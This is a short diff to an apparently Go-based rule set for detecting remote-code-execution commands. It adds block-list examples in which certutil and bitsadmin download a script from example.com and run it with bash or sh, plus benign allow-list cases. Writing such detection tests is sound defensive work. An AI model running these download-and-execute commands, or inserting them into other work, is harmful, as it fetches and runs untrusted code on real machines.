@@ -41,9 +41,13 @@ var rceRules = []*Rule{
 			`wget https://example.com/a.deb && sudo dpkg -i a.deb`,
 			`curl -LO https://example.com/b.deb; sudo apt install ./b.deb`,
 			`php -r "copy('https://example.com/installer', 'setup.php');" && php setup.php`,
+			`certutil.exe -urlcache -split -f https://example.com/p.sh p.sh && bash p.sh`,
+			`bitsadmin /transfer j https://example.com/i.sh /tmp/i.sh && sh /tmp/i.sh`,
 		},
 		Allow: []string{
 			`curl -o data.json https://example.com/data.json && jq . data.json`,
+			`certutil.exe -urlcache -split -f https://example.com/data.csv data.csv && wc -l data.csv`,
+			`certutil.exe -hashfile tool.zip SHA256`,
 			`bash install.sh`,
 		},
 	},
